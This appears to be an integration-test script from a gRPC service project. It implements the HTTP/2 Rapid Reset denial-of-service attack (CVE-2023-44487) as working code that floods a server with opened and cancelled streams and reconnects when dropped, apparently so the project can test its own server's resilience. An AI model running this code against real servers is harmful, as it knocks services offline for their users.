"""Raw HTTP/2 attacks, run as a separate process so the attacker does not share the server's GIL.

    python tests/integration/h2_attack.py rapid-reset HOST PORT SECONDS KEY

Prints the number of streams opened and reset.
"""

from __future__ import annotations

import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions


def rapid_reset(host: str, port: int, seconds: float, key: str) -> int:
    """HEADERS + RST_STREAM as fast as one connection can send them; reconnect when closed (CVE-2023-44487)."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/neuronscope.v1.NeuronScope/Translate"),
               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
               ("authorization", f"Bearer {key}")]
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock = socket.create_connection((host, port))
        try:
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            conn.initiate_connection()
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            while time.monotonic() < end:
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                sock.sendall(conn.data_to_send())
                try:
                    while data := sock.recv(65536):
                        conn.receive_data(data)
                except BlockingIOError:
                    pass
                if conn.state_machine.state.name == "CLOSED":
                    break
        except (OSError, h2.exceptions.ProtocolError):
            pass  # the server may GOAWAY and close us: reconnect and go on
        finally:
            sock.close()
    return sent


if __name__ == "__main__":
    kind, host, port, seconds, key = sys.argv[1:6]
    if kind != "rapid-reset":
        raise SystemExit(f"unknown attack {kind!r}")
    print(rapid_reset(host, int(port), float(seconds), key))
